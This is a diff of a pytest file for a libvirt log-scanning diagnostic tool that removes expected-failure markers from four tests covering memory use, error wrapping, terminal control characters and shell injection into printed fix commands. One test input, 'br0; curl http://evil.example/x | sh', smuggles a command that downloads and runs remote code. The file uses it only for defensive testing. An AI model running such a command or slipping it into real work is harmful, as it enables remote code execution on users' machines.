@@ -310,12 +310,11 @@ def test_two_gb_sparse_log_streams_in_bounded_memory(sparse_host: Path) -> None:
 
 
 @pytest.mark.skipif((os.cpu_count() or 1) < 2, reason="logscan splits a big libvirtd.log only with two CPUs")
-@pytest.mark.xfail(strict=True, reason="lead: logscan._blocks reads the rest of a line with an unbounded "
-                   "handle.readline() when a worker's range starts mid-line: a 2 GB hole costs ~2 GB of RAM")
 def test_two_gb_sparse_daemon_log_in_bounded_memory(sparse_host: Path, tmp_path: Path) -> None:
     """libvirtd.log above logscan.SPLIT_ABOVE is scanned by two worker processes: still bounded."""
     host = tmp_path / "daemon"
     corpus.write_base(host)
+    (host / "var/log/libvirt/libvirtd.log").unlink(missing_ok=True)
     os.link(sparse_host / "var/log/libvirt/qemu/web01.log", host / "var/log/libvirt/libvirtd.log")
     result = measured(["scan", "--root", str(host), "--format", "json"], data_limit=1 << 30)
     assert result["rc"] in (0, 1), result["stderr"][-500:]
@@ -540,8 +539,6 @@ def test_root_that_is_no_directory_or_archive(special: str, tmp_path: Path) -> N
         runner_error(["scan", "--root", str(target)])
 
 
-@pytest.mark.xfail(strict=True, reason="lead: cli.fail prints through a rich Console that wraps at the terminal "
-                   "width (80 when stderr is a file or pipe): a long path splits the one-line error over lines")
 def test_error_stays_on_one_line_at_any_width(tmp_path: Path) -> None:
     deep = tmp_path / ("d" * 60) / ("e" * 60)
     deep.mkdir(parents=True)
@@ -824,8 +821,6 @@ def test_daemon_speaking_garbage(tmp_path: Path, base: Path) -> None:
 INJECTED = "br0; curl http://evil.example/x | sh"
 
 
-@pytest.mark.xfail(strict=True, reason="lead: render.to_text/to_markdown/to_html print log text with raw control "
-                   "characters (ESC, BEL): a hostile log can retitle or clear the operator's terminal")
 def test_no_terminal_control_characters_in_reports(base: Path, tmp_path: Path) -> None:
     log = base / "var/log/libvirt/libvirtd.log"
     log.write_bytes(log.read_bytes() + b"2024-05-02 09:00:02.000+0000: 1201: error : virNetDevGetMTU:397 : Cannot "
@@ -847,8 +842,6 @@ def _operators(command: str) -> list[str]:
         return ["<unbalanced quotes>"]
 
 
-@pytest.mark.xfail(strict=True, reason="lead: rank.fill pastes captured text into fix commands unquoted: a "
-                   "hostile log or sosreport makes virtdiag print a shell command of its choosing")
 def test_fix_commands_never_carry_injected_shell() -> None:
     """A captured name with shell syntax must not add a command: each printed command has the same
     operators as its template filled with a plain word, and no unquoted $(...)."""
